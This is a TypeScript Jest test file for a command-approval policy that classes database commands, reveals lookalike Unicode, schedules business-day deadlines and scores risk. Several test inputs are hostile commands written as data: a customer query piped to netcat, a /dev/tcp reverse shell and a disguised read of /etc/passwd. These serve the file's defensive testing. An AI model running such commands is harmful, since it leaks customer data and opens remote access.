import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import {
  type CarriedStatement,
  classOf,
  endOfUse,
  isOffHours,
  isPlain,
  type Judgement,
  judgeCommand,
  nextBusinessDay,
  revealText,
  RISK_PARTS,
  type RiskFacts,
  riskOf,
  sameClass,
} from '../../policy/index.ts';

const ASSETS = [{ kind: 'table' as const, name: 'crm.customers', dataClass: 'personal', recordCount: 1_000 }];

/** As the parsers of SQL leave it: with a fingerprint that does not know constants. */
function judged(text: string): Judgement {
  const judgement = judgeCommand(text, { mode: 'exec-only', assets: ASSETS });
  const statements = (judgement.statements ?? []).map(
    (one): CarriedStatement => ({
      ...one,
      relations: ['crm.customers'],
      fingerprint: one.text.replaceAll(/'[^']*'|\d+/g, '?').slice(0, 200),
    }),
  );
  return { ...judgement, statements };
}
const psql = (sql: string): Judgement => judged(`psql -c "${sql}" crm`);

describe('the class of an act', () => {
  const base = psql("SELECT * FROM crm.customers WHERE client = 'A' AND id < 100");

  test('is the same for other constants in the statement', () => {
    expect(base.verdict).toBe('needs_ticket');
    expect(sameClass(base, psql("SELECT * FROM crm.customers WHERE client = 'B' AND id < 7"))).toBe(true);
    expect(sameClass(judged('mysqldump crm customers'), judged('mysqldump  crm   customers'))).toBe(true);
  });

  test.each<[string, Judgement]>([
    ['another question', psql("SELECT name FROM crm.customers WHERE client = 'A' AND id < 100")],
    ['another tool', judged('mysql -e "SELECT * FROM crm.customers WHERE client = \'A\' AND id < 100" crm')],
    ['another database', judged('psql -c "SELECT * FROM crm.customers WHERE client = \'A\' AND id < 100" billing')],
    ['another host', judged('psql -h 10.0.0.9 -c "SELECT * FROM crm.customers WHERE client = \'A\' AND id < 100" crm')],
    ['a file beside', judged('psql -o /tmp/x -c "SELECT * FROM crm.customers WHERE client = \'A\' AND id < 100" crm')],
    [
      'something sent',
      judged('psql -c "SELECT * FROM crm.customers WHERE client = \'A\' AND id < 100" crm | nc 192.0.2.1 443'),
    ],
  ])('is another one for %s', (_, act) => {
    expect(sameClass(base, act)).toBe(false);
  });

  test('does not exist for what no ticket opens, for what nobody read, and for a statement without a fingerprint', () => {
    expect(classOf(judged('ls'))).toBeUndefined();
    expect(classOf(judged('bash -i >& /dev/tcp/192.0.2.1/443 0>&1'))).toBeUndefined();
    expect(classOf({ ...base, findings: [] })).toBeUndefined();
    const unread = (sql: string): Judgement => {
      const act = psql(sql);
      return { ...act, statements: (act.statements ?? []).map((one) => ({ ...one, fingerprint: null })) };
    };
    const [left, right] = ['A', 'B'].map((name) => unread(`SELECT * FROM crm.customers WHERE client = '${name}'`));
    expect(sameClass(left!, right!)).toBe(false);
    expect(sameClass(left!, left!)).toBe(true);
  });
});

describe('the end of a use', () => {
  const budget = { usesMax: 3, uses: 1, rowsMax: 100, rowsUsed: 10, bytesMax: 1_000, bytesUsed: 10 };
  test.each([
    ['release', 'completed', budget],
    ['release', 'failed', budget],
    ['release', 'interrupted', budget],
    ['abort', 'limit_exceeded', budget],
    ['complete', 'completed', { ...budget, uses: 3 }],
    ['abort', 'interrupted', { ...budget, uses: 3 }],
    ['complete', 'completed', { ...budget, rowsUsed: 100 }],
    ['complete', 'completed', { ...budget, bytesUsed: 1_000 }],
  ] as const)('is %s after %s', (event, outcome, left) => {
    expect(endOfUse(outcome, left)).toBe(event);
  });
});

describe('a text laid open', () => {
  const kinds = (text: string, prose = false): string[] => revealText(text, { prose }).map(({ kind }) => kind);

  test.each([
    ['a Cyrillic letter', 'mysqldump сrm', 'lookalike'],
    ['a Greek letter', 'cat /etc/pαsswd', 'lookalike'],
    ['a full-width letter', 'mysqldump ｃrm', 'lookalike'],
    ['a mathematical letter', '𝐜rm', 'lookalike'],
    ['a bidirectional override', 'echo \u202egnp', 'bidi'],
    ['a zero-width space', 'cr\u200bm', 'hidden'],
    ['a no-break space', 'crm\u00a0customers', 'hidden'],
    ['a soft hyphen', 'cr\u00adm', 'hidden'],
  ])('shows %s', (_, text, kind) => {
    expect(kinds(text)).toContain(kind);
    expect(isPlain(text)).toBe(false);
  });

  test('tells what a letter looks like', () => {
    expect(revealText('сrm')[0]).toEqual({ kind: 'lookalike', text: 'с', codePoint: 'U+0441', like: 'c' });
  });

  test('leaves ordinary Japanese and English as they are', () => {
    for (const text of ['月次報告のため、Ａ社へ提出（２回目）', 'Monthly report – for “client A”', '顧客\u3000一覧']) {
      expect([text, kinds(text, true)]).toEqual([text, ['plain']]);
    }
    expect(isPlain('Monthly report by Аоki', { prose: true })).toBe(false);
  });

  test('loses no character and reads every text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.boolean(), (text, prose) => {
        expect(
          revealText(text, { prose })
            .map((run) => run.text)
            .join(''),
        ).toBe(text);
      }),
    );
  });
});

describe('the next business day', () => {
  const at = (zone: string, now: string): string =>
    nextBusinessDay(new Date(now), { zone, dueMinutes: 18 * 60 }).toISOString();

  test.each([
    ['a Wednesday', 'Asia/Tokyo', '2026-11-25T03:00:00Z', '2026-11-26T09:00:00.000Z'],
    ['after midnight in Japan', 'Asia/Tokyo', '2026-11-25T18:30:00Z', '2026-11-27T09:00:00.000Z'],
    ['a Friday', 'Asia/Tokyo', '2026-11-27T03:00:00Z', '2026-11-30T09:00:00.000Z'],
    ['a Sunday', 'Asia/Tokyo', '2026-11-29T03:00:00Z', '2026-11-30T09:00:00.000Z'],
    ['the Friday before the clocks go back', 'America/New_York', '2026-10-30T12:00:00Z', '2026-11-02T23:00:00.000Z'],
    ['the Friday before the clocks go forward', 'America/New_York', '2026-03-06T12:00:00Z', '2026-03-09T22:00:00.000Z'],
    ['a Thursday in summer', 'Europe/Berlin', '2026-07-02T12:00:00Z', '2026-07-03T16:00:00.000Z'],
  ])('after %s is at six by the wall clock', (_, zone, now, due) => {
    expect(at(zone, now)).toBe(due);
  });

  test('is always later, within five days, at six on a weekday', () => {
    const zones = fc.constantFrom('Asia/Tokyo', 'America/New_York', 'Europe/Berlin', 'Australia/Lord_Howe', 'UTC');
    const moments = fc.date({ min: new Date('2020-01-01'), max: new Date('2040-01-01'), noInvalidDate: true });
    fc.assert(
      fc.property(zones, moments, (zone, now) => {
        const due = nextBusinessDay(now, { zone, dueMinutes: 18 * 60 });
        const days = (due.getTime() - now.getTime()) / 86_400_000;
        expect(days).toBeGreaterThan(0);
        expect(days).toBeLessThan(5);
        const shown = new Intl.DateTimeFormat('en-GB', {
          timeZone: zone,
          weekday: 'short',

          hour: '2-digit',
          minute: '2-digit',
        });
        const text = shown.format(due);
        expect(text).toContain('18:00');
        expect(text).not.toMatch(/Sat|Sun/);
      }),
    );
  });

  test('knows night and weekend', () => {
    const off = (now: string): boolean => isOffHours(new Date(now), { zone: 'Asia/Tokyo' });
    expect([off('2026-11-25T03:00:00Z'), off('2026-11-25T18:00:00Z'), off('2026-11-29T03:00:00Z')]).toEqual([
      ...[false, true, true],
    ]);
  });

  test('is no holiday, over weekends and back to back, but comes at last where every day is one', () => {
    const golden = ['2026-04-29', '2026-05-04', '2026-05-05', '2026-05-06'];
    const due = (now: string, days: readonly string[]): string =>
      nextBusinessDay(new Date(now), { zone: 'Asia/Tokyo', dueMinutes: 1_080, holidays: new Set(days) }).toISOString();
    expect(due('2026-04-28T03:00:00Z', golden)).toBe('2026-04-30T09:00:00.000Z');
    expect(due('2026-05-01T03:00:00Z', golden)).toBe('2026-05-07T09:00:00.000Z');
    // Tuesday evening in UTC is Wednesday in Japan, the day before the holiday is over there.
    expect(due('2026-05-05T16:00:00Z', golden)).toBe('2026-05-07T09:00:00.000Z');
    const always = Array.from({ length: 60 }, (_, at) =>
      new Date(Date.UTC(2026, 3, 1 + at)).toISOString().slice(0, 10),
    );
    expect(due('2026-04-03T03:00:00Z', always)).toBe('2026-04-06T09:00:00.000Z');
    const holiday = { zone: 'Asia/Tokyo', holidays: new Set(golden) };
    expect(isOffHours(new Date('2026-05-05T03:00:00Z'), holiday)).toBe(true);
    expect(isOffHours(new Date('2026-05-07T03:00:00Z'), holiday)).toBe(false);
  });
});

describe('the risk score', () => {
  const calm: RiskFacts = {
    ...{ kind: 'export', dataClasses: [], rows: 1, destination: 'vault', clientInformed: true, scope: 'act', uses: 1 },
    ...{ odd: false, history: { used: 5, rejected: 0, aborted: 0 }, offHours: false, contractEndsInDays: null },
  };
  const loud: RiskFacts = {
    ...calm,
    ...{ dataClasses: ['special-care'], rows: 10_000_000, destination: 'outside', clientInformed: false },
    ...{ scope: 'class', uses: 9, odd: true, history: { used: 0, rejected: 2, aborted: 0 }, offHours: true },
    contractEndsInDays: 3,
  };

  test('is nothing for what is ordinary, and never more than a hundred', () => {
    expect(riskOf(calm)).toEqual({ score: 0, parts: [] });
    expect(riskOf(loud).score).toBe(100);
  });

  test('is the sum of its parts, each named, largest first', () => {
    const { score, parts } = riskOf({ ...calm, dataClasses: ['personal'], rows: 100_000, odd: true });
    expect(parts.map(({ part }) => part)).toEqual(['odd_characters', 'many_rows', 'personal_data']);
    expect(parts.reduce((sum, { points }) => sum + points, 0)).toBe(score);
    for (const { part } of riskOf(loud).parts) expect(RISK_PARTS).toContain(part);
  });
});
